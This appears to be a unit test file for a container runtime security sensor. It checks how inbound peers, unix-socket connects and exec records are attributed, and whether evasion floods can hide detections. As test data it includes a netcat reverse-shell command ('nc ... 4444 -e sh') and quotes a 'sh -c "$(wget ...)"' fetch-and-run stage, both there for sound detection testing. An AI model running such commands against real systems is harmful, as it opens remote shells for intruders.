"""Inbound peers classed when the connection arrives: this node, a container
on it (by workload, its addresses read from /proc then), or external."""

from __future__ import annotations

import os
import time
from pathlib import Path

from emulation.records import accept_rec, listen_rec, unix_rec
from sensor.attribution.netmap import NetMap, addresses_of_pid
from sensor.detect.view import WindowView
from sensor.telemetry.inbound import MAX_ACCEPTS_PER_PORT, MAX_LISTEN_VIEWS, MAX_UNIX_VIEWS, MAX_UNIX_VIEWS_PER_PATH
from tests.unit.telemetry.test_pipeline import A, World, make_world


def _world(tmp_path: Path, fake_docker) -> World:
    fake_docker.add(A, "api-1", "acme/api:1", "sha256:" + "a" * 64, {})
    w = make_world(tmp_path, fake_docker.socket_path)
    # container A's only process is this test: its addresses are A's
    (tmp_path / "cg" / "docker" / A / "cgroup.procs").write_text(f"{os.getpid()}\n")
    w.pipe.netmap = NetMap(host_addresses=set())
    w.pipe.registry.note_existing()
    return w


def test_peer_classes_at_accept_time(tmp_path: Path, fake_docker) -> None:
    w = _world(tmp_path, fake_docker)
    mine = sorted(a for a in addresses_of_pid(os.getpid()) if ":" not in a)
    assert mine, "this host has no IPv4 address outside loopback to play container A"
    for rec in (
        listen_rec(77, w.host_cg, "0.0.0.0", 8080),
        accept_rec(w.host_cg, mine[0], 40000, "192.0.2.1", 8080, ktime_ns=1),
        accept_rec(w.host_cg, "127.0.0.1", 40001, "127.0.0.1", 8080, ktime_ns=2),
        accept_rec(w.host_cg, "203.0.113.5", 40002, "192.0.2.1", 8080, ktime_ns=3, suppressed=2),
        accept_rec(0, "203.0.113.6", 40003, "192.0.2.1", 22, ktime_ns=4),  # listener predates the sensor
        unix_rec(78, w.cg, b"/var/run/docker.sock", ktime_ns=5),
        unix_rec(79, w.host_cg, b"/run/systemd/notify", ktime_ns=6),
    ):
        w.pipe.handle_raw(rec)
    v = w.pipe._view
    assert [a.peer_class for a in v.accepts] == ["container:acme/api", "node", "external"]
    assert v.accepts[0].peer is not None and v.accepts[0].peer.container is not None
    assert v.accepts[0].peer.container.id == A
    assert v.accepts[2].count == 3
    assert [(x.port, x.op) for x in v.listens] == [(8080, "listen")]
    # only container callers become views; host unix connects are counted
    assert [u.path for u in v.unix_connects] == ["/var/run/docker.sock"]
    assert w.pipe.counts["unix_connect_host"] == 1 and w.pipe.counts["accept"] == 4
    acc = [d for d in w.docs if d["event"]["action"] == "connection_accepted"]
    assert [d["sluice"]["inbound"]["listener_known"] for d in acc] == [True, True, True, False]
    assert acc[2]["source"] == {"ip": "203.0.113.5", "port": 40002, "address": "203.0.113.5"}
    assert acc[2]["sluice"]["inbound"]["connections"] == 3


def test_a_client_that_exited_is_named_by_the_kernel(tmp_path: Path, fake_docker) -> None:
    """A short-lived client container connects and exits before the sensor
    reads the accept: its address is gone from /proc (here: A's cgroup has
    no process), so by address it would be an outside peer (SL-C2-006 on an
    internal pivot). The kernel names the client's cgroup from the
    connect's (address, port): the peer is that container. A host process
    is judged by its address, as before (here: outside)."""
    w = _world(tmp_path, fake_docker)
    (tmp_path / "cg" / "docker" / A / "cgroup.procs").write_text("")  # the client exited
    for rec in (
        accept_rec(w.host_cg, "198.18.1.27", 58896, "198.18.1.26", 7000, ktime_ns=1),
        accept_rec(w.host_cg, "198.18.1.27", 58897, "198.18.1.26", 7000, ktime_ns=2, peer_cgroup_id=w.cg),
        accept_rec(w.host_cg, "203.0.113.7", 58898, "198.18.1.26", 7000, ktime_ns=3, peer_cgroup_id=w.host_cg),
    ):
        w.pipe.handle_raw(rec)
    v = w.pipe._view
    assert [a.peer_class for a in v.accepts] == ["external", "container:acme/api", "external"]
    assert v.accepts[1].peer is not None and v.accepts[1].peer.container is not None
    assert v.accepts[1].peer.container.id == A


class _Views:
    def __init__(self) -> None:
        self.seen: list[WindowView] = []

    def on_window(self, view: WindowView) -> None:
        self.seen.append(view)


def test_decoy_unix_paths_cannot_push_a_runtime_connect_out_unseen(tmp_path: Path, fake_docker) -> None:
    """256 connects to decoy paths used to fill the window's (global) unix
    view cap, so the docker.sock connect after them was never examined
    (no SL-C2-007) and nothing said so. Now each cgroup has its own share,
    repeats of one path take one share slot each up to a small cap, and a
    cgroup over its share is an overflow (SL-EVA-001) with the count."""
    w = _world(tmp_path, fake_docker)
    obs = _Views()
    w.pipe.observers.append(obs)
    for i in range(MAX_UNIX_VIEWS + 44):
        w.pipe.handle_raw(unix_rec(78, w.cg, f"/tmp/decoy-{i}".encode(), ktime_ns=i + 1))
    for i in range(50):  # one path over and over: a repeat, not a flood of keys
        w.pipe.handle_raw(unix_rec(79, w.cg_sub, b"/run/mysqld/mysqld.sock", ktime_ns=1000 + i))
    w.pipe.handle_raw(unix_rec(80, w.cg_sub, b"/var/run/docker.sock", ktime_ns=2000))
    w.pipe.handle_raw(unix_rec(81, w.cg, b"/var/run/docker.sock", ktime_ns=2001))
    w.pipe.close_window([], 0.0, 1.0)
    v = obs.seen[-1]
    paths = [(u.attr.cgroup_id, u.path) for u in v.unix_connects]
    # the sub-cgroup's share is its own: its runtime connect is examined
    assert (w.cg_sub, "/var/run/docker.sock") in paths
    assert sum(1 for _cg, p in paths if p == "/run/mysqld/mysqld.sock") == MAX_UNIX_VIEWS_PER_PATH
    # the flooding cgroup's own connect went past its share: that is the alert
    assert (w.cg, "/var/run/docker.sock") not in paths
    over = {o.overflow.cgroup_id: o.overflow for o in v.overflows}
    assert over[w.cg].views_refused == 45 and w.cg_sub not in over


def test_a_neighbour_cannot_use_up_the_listen_views(tmp_path: Path, fake_docker) -> None:
    w = _world(tmp_path, fake_docker)
    obs = _Views()
    w.pipe.observers.append(obs)
    for i in range(MAX_LISTEN_VIEWS * 2):
        w.pipe.handle_raw(listen_rec(77, w.cg, "0.0.0.0", 20000 + i))
    for _ in range(10):  # the same port again and again: one view
        w.pipe.handle_raw(listen_rec(77, w.cg, "0.0.0.0", 20000))
    w.pipe.handle_raw(listen_rec(90, w.host_cg, "0.0.0.0", 4444))
    w.pipe.close_window([], 0.0, 1.0)
    v = obs.seen[-1]
    assert [x.port for x in v.listens if x.attr.cgroup_id == w.host_cg] == [4444]
    assert sum(1 for x in v.listens if x.attr.cgroup_id == w.cg) == MAX_LISTEN_VIEWS
    assert {o.overflow.cgroup_id: o.overflow.views_refused for o in v.overflows} == {w.cg: MAX_LISTEN_VIEWS}


def test_a_busy_port_cannot_crowd_out_another_ports_accept(tmp_path: Path, fake_docker) -> None:
    """1,024 client addresses on a public port filled the cgroup's accept
    views (review: a bind shell's accept on 4444 went unexamined, and the
    service was blamed with SL-EVA-001). Each port has its own share."""
    w = _world(tmp_path, fake_docker)
    obs = _Views()
    w.pipe.observers.append(obs)
    for i in range(1200):
        w.pipe.handle_raw(accept_rec(w.host_cg, f"203.0.{i // 250}.{i % 250 + 1}", 40000, "192.0.2.1", 8080))
    w.pipe.handle_raw(accept_rec(w.host_cg, "203.0.113.99", 40001, "192.0.2.1", 4444))
    w.pipe.close_window([], 0.0, 1.0)
    v = obs.seen[-1]
    assert [a.port for a in v.accepts].count(4444) == 1
    assert [a.port for a in v.accepts].count(8080) == MAX_ACCEPTS_PER_PORT
    assert not v.overflows  # the clients' doing, not the service's flood


def test_busybox_applets_cannot_crowd_out_an_inline_shell(tmp_path: Path, fake_docker) -> None:
    """Review: every busybox applet is /bin/busybox, one share of 16 exec
    views per window; 16 applets before `sh -c "$(wget ...)"` kept the
    stage out of the rules' view. An interpreter running its command line
    has a share of its own."""
    from emulation.records import exec_args_rec, exec_rec

    w = _world(tmp_path, fake_docker)
    obs = _Views()
    w.pipe.observers.append(obs)
    gone = 2**22 + 100  # pids no process has: /proc says nothing, the records do
    for i in range(40):
        w.pipe.handle_raw(exec_args_rec(gone + i, w.cg, [b"cat", b"/etc/hostname"]))
        w.pipe.handle_raw(exec_rec(gone + i, w.cg, 1000 + i, b"cat", b"/bin/busybox", ppid=7))
    w.pipe.handle_raw(exec_args_rec(gone + 99, w.cg, [b"sh", b"-c", b"nc 203.0.113.9 4444 -e sh"]))
    w.pipe.handle_raw(exec_rec(gone + 99, w.cg, 5000, b"sh", b"/bin/busybox", ppid=7))
    w.pipe.close_window([], 0.0, 1.0)
    v = obs.seen[-1]
    assert [e.process.args for e in v.execs if e.process.pid == gone + 99] == [
        ["sh", "-c", "nc 203.0.113.9 4444 -e sh"]
    ]
    assert sum(1 for e in v.execs if e.process.args == ["cat", "/etc/hostname"]) == 16


def test_a_views_parent_that_only_forked_stands_for_its_own_parent(tmp_path: Path, fake_docker) -> None:
    """SL-C2-001's subshell and wrapper chains, where the kernel did not see
    the parent's fork (it predates the sensor): an exec whose parent runs
    the same file as its own parent, a shell, is marked FORKED (a subshell:
    `sh -c '(sleep 30; :) & ...'`); one whose parent exec'd another program
    (the subshell's `sleep`) is not; its grandparent is read while the
    parent lives."""
    import subprocess

    from emulation.records import exec_args_rec, exec_rec
    from sensor.detect.view import FORKED

    w = _world(tmp_path, fake_docker)
    obs = _Views()
    w.pipe.observers.append(obs)
    gone = 2**22 + 300
    sh = subprocess.Popen(["sh", "-c", "(sleep 30; :) & echo $!; wait"], stdout=subprocess.PIPE, text=True)
    try:
        assert sh.stdout is not None
        sub = int(sh.stdout.readline())
        deadline = time.monotonic() + 5
        while not (kids := Path(f"/proc/{sub}/task/{sub}/children").read_text().split()):
            assert time.monotonic() < deadline
            time.sleep(0.02)
        sleep = int(kids[0])
        for i, parent in enumerate((sub, sleep)):
            w.pipe.handle_raw(exec_args_rec(gone + i, w.cg, [b"sh", b"-c", b"id"]))
            w.pipe.handle_raw(exec_rec(gone + i, w.cg, 1000 + i, b"sh", b"/bin/busybox", ppid=parent))
        w.pipe.close_window([], 0.0, 1.0)
    finally:
        subprocess.run(["pkill", "-P", str(sh.pid)], check=False)
        sh.kill()
        sh.wait()
    refs = {e.process.pid: e.process for e in obs.seen[-1].execs}
    assert (refs[gone].gppid, refs[gone].parent) == (sh.pid, FORKED)
    assert (refs[gone + 1].gppid, refs[gone + 1].parent) == (sub, "")


def test_the_kernels_ancestry_of_an_exec_is_used_first(tmp_path: Path, fake_docker) -> None:
    """The exec record carries the grandparent and whether the parent
    exec'd (read in the kernel while the parent lived): a parent gone
    before user space reads the record is still a shell's fork (FORKED)
    or a named wrapper; a fork of another program (a prefork server's
    worker, review) is neither."""
    from emulation.records import exec_args_rec, exec_rec
    from sensor.detect.view import FORKED

    w = _world(tmp_path, fake_docker)
    obs = _Views()
    w.pipe.observers.append(obs)
    gone = 2**22 + 500  # no such processes: only the records speak
    w.pipe.handle_raw(exec_rec(gone + 77, w.cg, 800, b"sh", b"/bin/busybox", ppid=1))
    w.pipe.handle_raw(exec_rec(gone + 78, w.cg, 801, b"gunicorn", b"/usr/bin/python3", ppid=1))
    w.pipe.handle_raw(exec_rec(gone + 60, w.cg, 900, b"timeout", b"/usr/bin/timeout", ppid=gone + 77))
    cases = ((gone + 50, gone + 77, False), (gone + 60, gone + 77, True), (gone + 61, gone + 77, True))
    for i, (parent, grand, execd) in enumerate((*cases, (gone + 51, gone + 78, False))):
        w.pipe.handle_raw(exec_args_rec(gone + i, w.cg, [b"sh", b"-c", b"id"]))
        w.pipe.handle_raw(
            exec_rec(gone + i, w.cg, 1000 + i, b"sh", b"/bin/busybox", ppid=parent, gppid=grand, parent_execd=execd)
        )
    w.pipe.close_window([], 0.0, 1.0)
    refs = {e.process.pid: e.process for e in obs.seen[-1].execs}
    assert (refs[gone].gppid, refs[gone].parent) == (gone + 77, FORKED)  # a subshell, gone
    assert (refs[gone + 1].gppid, refs[gone + 1].parent) == (gone + 77, "timeout")  # a wrapper, by its exec
    assert (refs[gone + 2].gppid, refs[gone + 2].parent) == (gone + 77, "")  # exec'd, unseen: no name
    assert (refs[gone + 3].gppid, refs[gone + 3].parent) == (gone + 78, "")  # a gunicorn worker: not FORKED
